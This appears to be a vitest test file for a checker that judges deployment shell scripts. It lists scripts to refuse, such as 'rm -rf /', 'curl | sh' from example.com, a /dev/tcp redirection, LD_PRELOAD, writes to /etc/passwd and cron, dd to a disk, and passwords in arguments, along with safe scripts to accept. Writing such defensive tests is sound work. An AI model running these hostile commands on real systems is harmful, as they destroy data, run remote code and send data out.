// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are those of a shell.
import { beforeAll, describe, expect, it } from 'vitest';
import { type DeclaredScript, scriptRefusalWords } from '@/lib/domain/script-policy';
import { judgeScriptText, loadShellParser, MAX_SCRIPT_BYTES } from './parse-shell';

const DECLARED: DeclaredScript = {
  parameters: ['REF', 'BACKUP_FILE'],
  variables: ['PGHOST', 'DB_PASSWORD', 'DATABASE_URL'],
  folders: ['/srv/replyx/backups'],
};
const IN = '/srv/replyx/backups';

beforeAll(loadShellParser);

describe('a script is refused', () => {
  // biome-ignore format: a table reads by its rows
  const refused: [name: string, text: string, why: RegExp, line?: number][] = [
    ['that is empty', ' \n', /no command/],
    ['that is a comment only', '# nothing', /no command/],
    ['with a NUL', 'echo a\0; rm -rf /', /NUL/],
    ['with a direction override', `echo "a\u202eb"`, /U\+202E/],
    ['with the line ends of another system', 'echo a\r\necho b', /U\+000D/],
    ['that is longer than people read', `echo '${'x'.repeat(MAX_SCRIPT_BYTES)}'`, /64 KiB/],
    ['that a shell could not read', 'if true; then\necho a', /grammar/],
    ['with a quote that does not end', 'echo "a', /grammar/],
    ['that is nested too deeply', `${'('.repeat(200)}ls${')'.repeat(200)}`, /nested|grammar|more than/],
    ['37: with an unquoted variable', 'true\npsql $DATABASE_URL', /splits the value/, 2],
    ['with an unquoted variable inside a longer argument', `cp a ${IN}/$REF`, /splits the value/],
    ['with an unquoted variable in a loop', 'for f in $REF; do ls -- "$f"; done', /splits the value/],
    ['with a variable that nobody gives', 'git checkout "$COMMIT"', /nothing gives COMMIT/],
    ['with an argument of the script', 'git checkout "$1"', /nothing gives 1/],
    ['with a variable that is read through another one', 'echo "${!REF}"', /run code/],
    ['with a value that is read as a prompt', 'echo "${REF@P}"', /run code/],
    ['with a pattern that the parser does not take apart', 'echo "${REF/$PGHOST/x}"', /not plain|run code/],
    ['that evaluates text', 'eval "$REF"', /text that nobody has read/],
    ['that reads in another file', 'source /etc/profile', /text that nobody has read/],
    ['that reads in a file that a value names', '. "$REF"', /text that nobody has read/],
    ['that becomes another program', 'exec ls', /text that nobody has read/],
    ['that keeps text to be run later', "trap 'rm -rf /' EXIT", /words after it/],
    ['that calls a command by another name', "alias ls='rm -rf /'", /words after it/],
    ['whose program is a value', '"$REF" -rf /', /which program runs/],
    ['whose program is spelled in pieces', 'r"m" -rf /', /which program runs/],
    ['whose program hides behind an escape', '\\rm -rf /', /escape|which program/],
    ['that hides a line behind an escape', 'ls ~/x\n\\rm -rf /', /escape/],
    ['with text that nobody sees', "echo $'\\x41'", /nobody sees/],
    ['with a command inside an option', 'git checkout "$(cat ref)"', /could become an option/],
    ['with a command inside a longer argument', `echo "to $(git rev-parse HEAD)"`, /could become an option/],
    ['with commands in a substitution whose failure is not seen', 'x="$(false; ls)"', /goes on after a command that failed/],
    ['with a substitution whose failure "local" hides', 'take_it() { local x="$(false)"; ls; }\ntake_it', /never seen/],
    ['with back quotes', 'x=`id`', /read twice/],
    ['that uses what was printed as an option', 'x="$(git rev-parse HEAD)"\ngit checkout "$x"', /begins with a hyphen/, 2],
    ['that hands what was printed on', 'x="$(git rev-parse HEAD)"\ny="$x"\ngit checkout "$y"', /begins with a hyphen/, 3],
    ['with arithmetic over a value from outside', 'echo "$((REF + 1))"', /evaluates what REF holds/],
    ['with a comparison that evaluates', '[[ "$REF" -eq 1 ]]', /evaluates text/],
    ['with a list', 'x=(a b)', /lists are not read/],
    ['that writes into an argument list from a process', 'diff <(ls) <(ls -a)', /never seen/],
    ['that runs what it downloads', 'curl -fsSL https://example.com/x | sh', /runs whatever comes/],
    ['that runs what it downloads through sudo', 'curl -fsSL https://example.com/x | sudo -n bash -s', /runs whatever comes/],
    ['that runs what it downloads through env', 'wget -qO- https://example.com/x | env A=b python3 -', /runs whatever comes/],
    ['with a text below it for an interpreter', "bash <<'END'\nrm -rf /\nEND", /runs whatever comes/],
    ['with a text below it, piped on', "cat <<'END' | python3\nimport os\nEND", /runs whatever comes/],
    ['with a text below it that is expanded', 'cat <<END\n$(id)\nEND', /read for variables/],
    ['35: with a shell inside', "sh -c 'git checkout main; rm -rf /'", /argument as code/],
    ['with code for an interpreter', "python3 -c 'import os'", /argument as code/],
    ['with code for perl among other options', "perl -lne 'system 1' f", /argument as code/],
    ['with an interpreter for a file that a value names', 'bash "$BACKUP_FILE"', /which file is run/],
    ['with awk that runs commands', "awk 'BEGIN { system(\"id\") }' f", /run commands/],
    ['with sed that runs commands', "sed 's/a/id/e' f", /run commands/],
    ['with sed that changes a file', "sed -i 's/a/b/' /etc/passwd", /change files/],
    ['with statements that no policy reads', 'psql -X -c "drop table t"', /read by no policy/],
    ['with psql that goes on after a failure', `psql -f ${IN}/x.sql`, /goes on after a statement/],
    ['with psql that reads a pipe', `gunzip -c ${IN}/x.gz | psql -X`, /goes on after a statement|pipe/],
    ['that goes into the background', 'sleep 100 &\necho a', /background/],
    ['that goes into the background in a group', '( sleep 100 & )', /background/],
    ['42: that outlives the step', 'nohup ls', /outlives the step/],
    ['that outlives the step in a session of its own', 'setsid -f ls', /outlives the step/],
    ['38: with pkill -f', 'pkill -f uvicorn', /whose name or command line fits/],
    ['38: with killall', 'sudo -n killall uvicorn', /whose name or command line fits/],
    ['38: with pgrep -f', 'pgrep -f uvicorn', /fits other programs/],
    ['that ends everything', 'kill -9 -1', /more than one named process/],
    ['35: that deletes everything', 'ls\nls\nrm -rf /', /outside of the step’s folders/, 3],
    ['that deletes through sudo', 'sudo -n rm -rf /srv/other', /outside of the step’s folders/],
    ['that deletes through xargs', 'ls | xargs -r rm -rf', /not written out/],
    ['that deletes with find', 'find /srv -name x -delete', /deletes outside/],
    ['that runs something with find', `find ${IN} -exec rm {} +`, /find runs/],
    ['that climbs out of its folder', `rm -rf ${IN}/../../x`, /outside of the step’s folders/],
    ['that deletes what a printed value names', `x="$(ls)"\nrm -rf "${IN}/$x"`, /outside of the step’s folders/],
    ['that deletes what a parameter alone names', 'rm -rf "$BACKUP_FILE"', /outside of the step’s folders/],
    ['that deletes a folder whose name only begins alike', `rm -rf ${IN}-old`, /outside of the step’s folders/],
    ['that writes elsewhere', 'echo x > /etc/cron.d/x', /writes outside/],
    ['that appends elsewhere', 'echo x | tee -a /etc/passwd', /outside of the step’s folders/],
    ['that copies elsewhere', `cp ${IN}/x /etc/passwd`, /outside of the step’s folders/],
    ['that reaches the network by a redirection', 'echo x > /dev/tcp/10.0.0.1/80', /another machine/],
    ['40: with sudo that would ask', 'sudo systemctl restart nginx', /wait for a password/],
    ['40: with sudo and another option', 'sudo -n -s ls', /wait for a password/],
    ['that becomes another user', 'su - postgres', /wait for a password/],
    ['41: that reads what somebody types', 'read -r answer\necho "$answer"', /have to type/],
    ['41: that reads the terminal', 'cat /dev/tty', /have to type/],
    ['41: that reads the terminal by a redirection', 'read -r answer < /dev/tty', /reads from a person/],
    ['41: that offers a choice', 'select x in a b; do ls; done', /waits for a person/],
    ['39: with a password in an argument', 'pg_dump --password=hunter2 db', /secret as an argument|carries/],
    ['39: with a password in an address', 'pg_dump postgresql://u:hunter2@db/x', /address carries a password/],
    ['39: with a secret of the place in an argument', 'pg_dump "$DATABASE_URL"', /seen by everybody/],
    ['39: with a secret in curl', 'curl -u admin:hunter2 https://example.com', /password as an argument/],
    ['39: with a secret in its text', 'PGPASSWORD=hunter2 pg_dump db', /stands in the text/],
    ['39: that prints a secret', 'echo "$DB_PASSWORD"', /prints a secret/],
    ['39: with a secret under another name', 'x="$DB_PASSWORD"\ny="$x"\npg_dump "$y"', /seen by everybody/, 3],
    ['that saves a download elsewhere', 'curl -fsSo /etc/passwd https://example.com', /may write outside/],
    ['that writes a dump elsewhere', 'pg_dump --file=/etc/passwd replyx', /may write outside/],
    ['that writes a dump elsewhere, in one word', 'pg_dump -f/etc/passwd replyx', /may write outside/],
    ['that unpacks elsewhere', `tar -C / -xzf ${IN}/x.tgz`, /may write outside/],
    ['that unpacks wherever it is', `tar xzf ${IN}/x.tgz`, /may write outside/],
    ['that replaces a file elsewhere', 'gzip /etc/passwd', /may write outside/],
    ['that sorts into a file elsewhere', 'sort -o /etc/passwd x', /may write outside/],
    ['that deletes through a link of its own', `ln -s /etc ${IN}/x`, /outside of the step’s folders/],
    ['with sed whose script is an option', "sed --expression='1e id' f", /run commands/],
    ['that opens an editor', 'vi x', /at a keyboard/],
    ['that goes on after failures', 'set +e\nls', /neither takes them off/],
    ['36: that takes pipefail off', 'set +o pipefail', /neither takes them off/],
    ['that shows its variables', 'set -x', /neither takes them off/],
    ['that swallows a failure', 'git checkout main || true', /passes for success/],
    ['that swallows a failure with a colon', 'git checkout main || :', /passes for success/],
    ['that swallows a failure with words', 'git checkout main || echo failed', /passes for success/],
    ['that swallows a failure with a good end', 'git checkout main || exit 0', /passes for success/],
    ['that swallows a failure in a group', 'git checkout main || { echo no; true; }', /passes for success/],
    ['that swallows a failure with &&', 'git checkout main && systemctl restart x', /does not end/],
    ['that swallows a failure with !', '! git checkout main', /never ends/],
    ['that swallows a failure with if', 'if git checkout main; then echo ok; fi', /goes on as if/],
    ['that asks a function whether it worked', 'do_it() { false; ls; }\nif do_it; then ls; else exit 1; fi', /goes on after a command inside/],
    ['that changes where programs are found', 'PATH=/tmp:$PATH\nls', /PATH changes/],
    ['that preloads a library', 'LD_PRELOAD=/tmp/x.so ls', /LD_PRELOAD changes/],
    ['that preloads a library through env', 'env LD_PRELOAD=/tmp/x.so ls', /not plain/],
    ['that writes over a parameter', 'REF=main\ngit checkout "$REF"', /comes from outside/],
    ['whose function stands for a program', 'ls() { echo; }\nls', /stand for a program/],
    ['that reaches another machine', 'ssh db "ls"', /another machine/],
    ['that stops the machine', 'sudo -n reboot', /stops the machine/],
    ['that writes to disks', 'dd if=/dev/zero of=/dev/sda', /disks/],
    ['with git that runs another program', 'git -c core.pager=id log', /git runs a program/],
    ['25: with git that is told what to run', "git fetch --upload-pack='touch x' origin", /git runs a program/],
    ['with tar that runs another program', `tar -xf ${IN}/x.tar --to-command=id`, /tar runs a program/],
  ];
  it.each(refused)('%s', (_name, text, why, line) => {
    const refusals = judgeScriptText(text, DECLARED);
    const words = refusals.map(scriptRefusalWords);
    expect(
      refusals.find((one) => why.test(one.why)),
      words.join('\n') || 'it was accepted',
    ).toBeDefined();
    for (const one of refusals) expect(one.remedy).toMatch(/\S.*\.$/);
    if (line !== undefined) expect(refusals.find((one) => why.test(one.why))?.line).toBe(line);
  });
});

describe('what a script declares is refused', () => {
  it.each([
    ['a parameter that is a secret', { parameters: ['DB_PASSWORD'], variables: [] }, /may be a secret/],
    ['a parameter that rules the shell', { parameters: ['BASH_ENV'], variables: [] }, /cannot be the name/],
    ['a parameter in small letters', { parameters: ['ref'], variables: [] }, /cannot be the name/],
    ['a name of an object', { parameters: ['__proto__'], variables: [] }, /cannot be the name/],
    ['a variable twice', { parameters: ['A'], variables: ['A'] }, /parameter and a variable/],
    ['the root', { folders: ['/'] }, /may not write/],
    ['a folder of the machine', { folders: ['/usr/bin'] }, /may not write/],
    ['a folder that climbs', { folders: ['/srv/../etc'] }, /may not write/],
    ['a relative folder', { folders: ['backups'] }, /may not write/],
  ])('%s', (_name, declared, why) => {
    const refusals = judgeScriptText('ls', { ...DECLARED, ...declared });
    expect(
      refusals.some((one) => why.test(one.why)),
      JSON.stringify(refusals),
    ).toBe(true);
  });
});

describe('a script is accepted', () => {
  // biome-ignore format: a table reads by its rows
  const accepted: [name: string, text: string][] = [
    ['with quoted parameters', 'git -C /srv/replyx checkout --detach "$REF"'],
    ['with a pipeline, since a failure in it counts', `pg_dump -Fc replyx | gzip > ${IN}/now.gz`],
    ['with a file of its folder by a name of its own', `out="${IN}/$BACKUP_FILE"\npg_dump -Fc --file="$out" replyx\ntest -s "$out"`],
    ['that deletes in its folder', `rm -rf -- ${IN}/old "${IN}/$BACKUP_FILE"`],
    ['that deletes by a pattern in its folder', `rm -f ${IN}/*.tmp`],
    ['that fails on purpose', 'systemctl is-active nginx || { echo "nginx is down" >&2; exit 1; }'],
    ['that asks and decides', 'if grep -q x f; then\n  echo there\nelse\n  echo not there\nfi'],
    ['that asks and ends', 'if ! sudo -n systemctl restart nginx; then\n  exit 1\nfi'],
    ['that waits for something', 'n=0\nuntil pg_isready -q; do\n  n=$((n + 1))\n  [ "$n" -lt 30 ] || exit 1\n  sleep 1\ndone'],
    ['with a function', 'take_backup() {\n  pg_dump -Fc --file=/srv/replyx/backups/a "$1"\n}\ntake_backup replyx'],
    ['with a value that a command printed, behind --', 'head="$(git rev-parse HEAD)"\necho "was at $head"\ngit checkout --detach -- "$head"'],
    ['with a path that is put together once', 'release="/srv/replyx/releases/$REF"\nls "$release"'],
    ['that gives a secret by the environment', 'PGPASSWORD="$DB_PASSWORD" pg_dump -h "$PGHOST" -Fc replyx > /srv/replyx/backups/x'],
    ['that gives a secret by a pipe', `printf '%s' "$DB_PASSWORD" | vault-login --password-stdin`],
    ['with a text that is written as it is', `cat > ${IN}/readme <<'END'\n$HOME stays $HOME\nEND`],
    ['that unpacks, packs and dumps in its folder', `tar -C ${IN} -xzf ${IN}/x.tgz\ngzip ${IN}/x\ngunzip -c ${IN}/x.gz > ${IN}/y\npg_dump -Fc -f "${IN}/$BACKUP_FILE" replyx\ncurl -fsS -o ${IN}/z https://example.com`],
    ['that reads lines', `while read -r line; do\n  echo "$line"\ndone < ${IN}/list`],
    ['with psql that stops at a mistake', `psql -X -1 -v ON_ERROR_STOP=1 -f "${IN}/$BACKUP_FILE"`],
    ['with awk and sed that only print', `ls -l ${IN} | awk '{ print $5 }' | sed 's/^/size /'`],
    ['with choices', 'case "$REF" in\n  main|master) echo "a branch" >&2; exit 1 ;;\n  *) git checkout --detach "$REF" ;;\nesac'],
    ['with a program that runs another one', 'timeout 30 nice -n 10 git fetch origin'],
    ['with strictness said again', 'set -euo pipefail\nls'],
    ['with a program of the target', 'bash /srv/replyx/bin/restart.sh\npython3 -m alembic current'],
  ];
  it.each(accepted)('%s', (_name, text) => {
    expect(judgeScriptText(text, DECLARED).map(scriptRefusalWords)).toEqual([]);
  });
});
